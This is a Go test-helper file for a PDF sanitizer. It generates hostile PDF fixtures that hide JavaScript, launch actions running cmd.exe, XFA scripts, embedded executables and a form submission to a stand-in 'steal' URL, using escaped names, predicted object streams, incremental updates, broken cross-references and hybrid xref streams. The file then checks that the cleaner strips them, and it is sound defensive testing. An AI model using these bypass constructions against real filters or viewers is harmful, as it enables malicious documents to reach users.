package sanitizetest

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"landwatch/internal/sanitize/pdf"
	"landwatch/internal/testtool"
)

// PageText is the text every fixture page shows; a cleaned page must still show it.
const PageText = "evidence page"

// textPage is a page tree of one page drawing PageText with a standard font: objects 2 (the
// tree), 3 (the page), 4 (its content) and 5 (the font). extra is added to the page dictionary.
func textPage(extra string) []string {
	content := "BT /F1 14 Tf 20 100 Td (" + PageText + ") Tj ET"
	return []string{
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R " + extra + " >>",
		PDFStreamObj("", []byte(content)),
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
	}
}

// embedded is a file specification (object n) with its embedded file (object n+1).
func embedded(n int, name string) []string {
	return []string{
		fmt.Sprintf("<< /Type /Filespec /F (%s) /UF (%s) /EF << /F %d 0 R >> >>", name, name, n+1),
		PDFStreamObj("/Type /EmbeddedFile", []byte("MZ payload "+SecretPhone)),
	}
}

// pngUp encodes data with the PNG "Up" predictor (Predictor 12) in rows of cols bytes.
func pngUp(data []byte, cols int) []byte {
	var out []byte
	prev := make([]byte, cols)
	for i := 0; i < len(data); i += cols {
		row := make([]byte, cols)
		copy(row, data[i:min(len(data), i+cols)])
		out = append(out, 2)
		for k := range row {
			out = append(out, row[k]-prev[k])
		}
		prev = row
	}
	return out
}

// objStmPredictorPDF hides the catalog (with its OpenAction and a JavaScript name tree) in a
// Flate object stream whose data is PNG-predicted, found through a predicted cross-reference
// stream.
func objStmPredictorPDF(t testing.TB) []byte {
	inner := map[int]string{
		1: "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\('objstm'\\)) >> /Names << /JavaScript 6 0 R /EmbeddedFiles 9 0 R >> >>",
		6: "<< /Names [(hidden) 7 0 R] >>",
		7: "<< /S /JavaScript /JS (app.launchURL\\('http://x.example'\\)) >>",
		9: "<< /Names [(payload.exe) 10 0 R] >>",
	}
	order := []int{1, 6, 7, 9}
	var head, body strings.Builder
	for _, n := range order {
		fmt.Fprintf(&head, "%d %d ", n, body.Len())
		body.WriteString(inner[n] + "\n")
	}
	const cols = 7
	data := Flate(t, string(pngUp([]byte(head.String()+body.String()), cols)))
	var b bytes.Buffer
	b.WriteString("%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
	offs := map[int]int{}
	page := textPage("")
	for i, o := range page {
		offs[i+2] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+2, o)
	}
	ef := embedded(10, "payload.exe")
	for i, o := range ef {
		offs[10+i] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", 10+i, o)
	}
	offs[8] = b.Len()
	fmt.Fprintf(&b, "8 0 obj\n%s\nendobj\n", PDFStreamObj(fmt.Sprintf("/Type /ObjStm /N %d /First %d /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns %d >>", len(order), head.Len(), cols), data))
	xoff := b.Len()
	var x []byte
	for n := 0; n <= 12; n++ {
		switch {
		case n == 0:
			x = append(x, 0, 0, 0, 0, 0, 0xff, 0xff)
		case inner[n] != "":
			idx := 0
			for i, m := range order {
				if m == n {
					idx = i
				}
			}
			x = append(x, 2, 0, 0, 0, 8, 0, byte(idx))
		case n == 12:
			x = append(x, 1, byte(xoff>>24), byte(xoff>>16), byte(xoff>>8), byte(xoff), 0, 0)
		default:
			o := offs[n]
			x = append(x, 1, byte(o>>24), byte(o>>16), byte(o>>8), byte(o), 0, 0)
		}
	}
	fmt.Fprintf(&b, "12 0 obj\n%s\nendobj\n", PDFStreamObj("/Type /XRef /Size 13 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 7 >>", Flate(t, string(pngUp(x, 7)))))
	fmt.Fprintf(&b, "startxref\n%d\n%%%%EOF\n", xoff)
	return b.Bytes()
}

// appendUpdate adds an incremental update to a file: objects (number → body) and a new xref
// section whose /Prev is the previous one.
func appendUpdate(base []byte, size int, objs map[int]string) []byte {
	prev := regexp.MustCompile(`startxref\s+(\d+)\s+%%EOF\s*$`).FindSubmatch(base)
	b := bytes.NewBuffer(append([]byte(nil), base...))
	offs := map[int]int{}
	var nums []int
	for n := 1; n < size; n++ {
		if o, ok := objs[n]; ok {
			offs[n] = b.Len()
			fmt.Fprintf(b, "%d 0 obj\n%s\nendobj\n", n, o)
			nums = append(nums, n)
		}
	}
	x := b.Len()
	b.WriteString("xref\n0 1\n0000000000 65535 f \n")
	for _, n := range nums {
		fmt.Fprintf(b, "%d 1\n%010d 00000 n \n", n, offs[n])
	}
	fmt.Fprintf(b, "trailer\n<< /Size %d /Root 1 0 R /Prev %s >>\nstartxref\n%d\n%%%%EOF\n", size, prev[1], x)
	return b.Bytes()
}

func cat(lists ...[]string) []string {
	var out []string
	for _, l := range lists {
		out = append(out, l...)
	}
	return out
}

// hybridPDF appends to base an update in the hybrid form: a cross-reference table naming nothing
// new, whose /XRefStm stream places the catalog (now with an OpenAction script and an embedded
// file) in an object stream. Readers of PDF 1.5 and later take that catalog; older ones the first.
func hybridPDF(t testing.TB, base []byte) []byte {
	prev := regexp.MustCompile(`startxref\s+(\d+)\s+%%EOF\s*$`).FindSubmatch(base)
	inner := "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\('hybrid'\\)) >> /Names << /EmbeddedFiles << /Names [(h.exe) 7 0 R] >> >> >>"
	b := bytes.NewBuffer(append([]byte(nil), base...))
	offs := map[int]int{}
	for i, o := range embedded(7, "h.exe") {
		offs[7+i] = b.Len()
		fmt.Fprintf(b, "%d 0 obj\n%s\nendobj\n", 7+i, o)
	}
	offs[6] = b.Len()
	fmt.Fprintf(b, "6 0 obj\n%s\nendobj\n", PDFStreamObj("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", Flate(t, "1 0 "+inner)))
	offs[9] = b.Len()
	row := func(typ byte, f2 int, f3 byte) []byte {
		return []byte{typ, byte(f2 >> 24), byte(f2 >> 16), byte(f2 >> 8), byte(f2), 0, f3}
	}
	var x []byte
	x = append(x, row(2, 6, 0)...) // object 1: the first of object stream 6
	for n := 6; n <= 9; n++ {
		x = append(x, row(1, offs[n], 0)...)
	}
	fmt.Fprintf(b, "9 0 obj\n%s\nendobj\n", PDFStreamObj("/Type /XRef /Size 10 /W [1 4 2] /Index [1 1 6 4] /Root 1 0 R", x))
	xt := b.Len()
	fmt.Fprintf(b, "xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 10 /Root 1 0 R /Prev %s /XRefStm %d >>\nstartxref\n%d\n%%%%EOF\n", prev[1], offs[9], xt)
	return b.Bytes()
}

// Bypass is one hostile PDF: what it hides and how.
type Bypass struct {
	Name string
	Data []byte
}

// PDFBypasses are PDFs that hide scripts, launch actions, forms or attached files in every way
// the former byte-pattern cleaner missed; each page shows PageText.
func PDFBypasses(t testing.TB) []Bypass {
	js := "<< /S /JavaScript /JS (app.alert\\('x'\\)) >>"
	var out []Bypass
	add := func(name string, data []byte) { out = append(out, Bypass{name, data}) }

	catalog := func(extra string) []string { return []string{"<< /Type /Catalog /Pages 2 0 R " + extra + " >>"} }
	one := func(o ...string) []string { return o }

	// names escaped with #xx: /OpenAction, /JS, /JavaScript, /EmbeddedFiles, in keys and values
	add("escaped-names", BuildPDF("", cat(
		catalog("/Open#41ction << /S /JavaScrip#74 /J#53 (app.alert\\('esc'\\)) >> /Names << /JavaScrip#74 6 0 R /Embedded#46iles 7 0 R >>"),
		textPage(""), one("<< /Names [(a) << /S /Java#53cript /#4A#53 (this.print\\(\\)) >>] >>", "<< /Names [(secret.exe) 8 0 R] >>"),
		embedded(8, "secret.exe"))...))
	add("objstm-predictor", objStmPredictorPDF(t))
	add("launch-annotation", BuildPDF("", cat(catalog(""), textPage("/Annots [6 0 R]"),
		one("<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A<</S/Launch /F(cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>"))...))
	add("xfa-script", BuildPDF("", cat(catalog("/AcroForm << /Fields [] /XFA [(template) 6 0 R] /NeedsRendering true >>"), textPage(""),
		one(PDFStreamObj("", []byte(`<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><event activity="initialize"><script contentType="application/x-javascript">app.alert("xfa")</script></event></subform></template>`))))...))
	add("outline-javascript", BuildPDF("", cat(catalog("/Outlines 6 0 R /PageMode /UseOutlines"), textPage(""),
		one("<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>", "<< /Title (go) /Parent 6 0 R /A "+js+" >>"))...))
	add("page-aa", BuildPDF("", cat(catalog(""), textPage("/AA << /O "+js+" /C << /S /Launch /F (cmd.exe) >> >>"))...))
	add("link-next-launch", BuildPDF("", cat(catalog(""), textPage("/Annots [6 0 R]"),
		one("<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (https://example.org/) /Next << /S /Launch /F (cmd.exe) /Next "+js+" >> >> >>"))...))
	add("file-attachment-annotation", BuildPDF("", cat(catalog(""), textPage("/Annots [6 0 R]"),
		one("<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 7 0 R /Contents (see) >>"), embedded(7, "tool.exe"))...))
	// a first update removes the OpenAction, a second adds it back
	base := BuildPDF("", cat(catalog("/OpenAction "+js), textPage(""))...)
	once := appendUpdate(base, 6, map[int]string{1: catalog("")[0]})
	add("incremental-openaction", appendUpdate(once, 6, map[int]string{1: catalog("/OpenAction " + js)[0]}))
	// the same with the script in an object the second update adds
	add("incremental-openaction-2", appendUpdate(once, 7, map[int]string{
		1: catalog("/OpenAction 6 0 R /Names << /JavaScript << /Names [(b) 6 0 R] >> >>")[0], 6: js}))
	add("escaped-key-and-value", BuildPDF("", cat(catalog(""),
		textPage("/#41#41 << /#4F << /#53 /#4Aava#53cript /#4A#53 (app.alert\\(2\\)) >> >> /Annots [6 0 R]"),
		one("<< /Typ#65 /Annot /Subtyp#65 /Fil#65Attachment /Rect [0 0 20 20] /F#53 7 0 R >>"), embedded(7, "esc.exe"))...))
	// a broken cross-reference table: viewers find the objects by scanning; so must the cleaner
	bad := BuildPDF("", cat(catalog("/OpenAction "+js+" /Names << /EmbeddedFiles << /Names [(x.exe) 6 0 R] >> >>"),
		textPage(""), embedded(6, "x.exe"))...)
	bad = regexp.MustCompile(`\d{10} 00000 n`).ReplaceAll(bad, []byte("0000000009 00000 n"))
	add("broken-xref", bad)
	// every other kind of action and active annotation, on links, pages and the catalog
	link := func(a string) string { return "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A " + a + " >>" }
	add("other-actions", BuildPDF("", cat(catalog("/OpenAction << /S /GoToR /F (\\\\\\\\host\\\\share\\\\x.pdf) /D [0 /Fit] >>"),
		textPage("/Annots [6 0 R 7 0 R 8 0 R 9 0 R 10 0 R 11 0 R] /AA << /C << /S /ImportData /F (data.fdf) >> >>"),
		one(link("<< /S /SubmitForm /F << /FS /URL /F (http://x.example/steal) >> >>"),
			link("<< /S /GoToE /T << /R /C /N (a.pdf) >> >>"),
			link("<< /S /URI /URI (javascript:app.alert\\(3\\)) >>"),
			"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent << /Assets << /Names [(a.swf) << /Type /Filespec /F (a.swf) >>] >> >> >>",
			"<< /Type /Annot /Subtype /Screen /Rect [0 0 10 10] /A << /S /Rendition /OP 0 /JS (app.alert\\(4\\)) >> >>",
			"<< /Type /Annot /Subtype /Widget /FT /Btn /Rect [0 0 10 10] /A << /S /Movie /T (m) >> /AA << /U << /S /Sound /Sound 12 0 R >> >> >>"),
		one(PDFStreamObj("/Type /Sound /R 8000", []byte("noise"))))...))
	add("hybrid-xrefstm", hybridPDF(t, BuildPDF("", cat(catalog(""), textPage(""))...)))
	return out
}

// tool runs one of poppler's tools on a PDF (installed by .ci/install if missing; the test fails
// without it).
func tool(t testing.TB, name string, b []byte, args ...string) (string, error) {
	t.Helper()
	path := testtool.Installed(t, name)
	f := filepath.Join(t.TempDir(), "x.pdf")
	if err := os.WriteFile(f, b, 0o600); err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command(path, append(args, f)...).CombinedOutput()
	return string(out), err
}

// PopplerActive reports what poppler finds active in a PDF: whatever pdfinfo -js prints (it prints
// nothing for a file without scripts; poppler's own warnings aside) and the files pdfdetach -list
// lists.
func PopplerActive(t testing.TB, b []byte) (scripts, files string) {
	t.Helper()
	js, _ := tool(t, "pdfinfo", b, "-js")
	for _, line := range strings.Split(js, "\n") {
		if strings.TrimSpace(line) != "" && !strings.HasPrefix(line, "Syntax ") && !strings.HasPrefix(line, "Internal Error") {
			scripts += line + "\n"
		}
	}
	list, _ := tool(t, "pdfdetach", b, "-list")
	if m := regexp.MustCompile(`(\d+) embedded files?`).FindStringSubmatch(list); m == nil || m[1] != "0" {
		files = list
	}
	return scripts, files
}

// AssertCleanPDF fails t unless a stored PDF holds no script (pdfinfo -js), no attached file
// (pdfdetach -list), nothing pdf.Audit forbids when it walks every object, and still shows
// PageText (pdftotext).
func AssertCleanPDF(t testing.TB, what string, out []byte) {
	t.Helper()
	scripts, files := PopplerActive(t, out)
	if scripts != "" {
		t.Errorf("%s: pdfinfo -js shows scripts:\n%s", what, scripts)
	}
	if files != "" {
		t.Errorf("%s: pdfdetach -list shows files:\n%s", what, files)
	}
	bad, err := pdf.Audit(out)
	if err != nil {
		t.Errorf("%s: the stored file does not parse: %v", what, err)
	}
	if len(bad) > 0 {
		t.Errorf("%s: the stored file holds %v", what, bad)
	}
	for _, s := range []string{"app.alert", "cmd.exe", "launchURL", "<script", "MZ payload", "JavaScript", "EmbeddedFile"} {
		if bytes.Contains(out, []byte(s)) {
			t.Errorf("%s: the stored file holds %q", what, s)
		}
	}
	path := testtool.Installed(t, "pdftotext")
	cmd := exec.Command(path, "-", "-")
	cmd.Stdin = bytes.NewReader(out)
	txt, err := cmd.Output()
	if err != nil || !strings.Contains(string(txt), PageText) {
		t.Errorf("%s: the page no longer shows its text: %v %q", what, err, txt)
	}
}
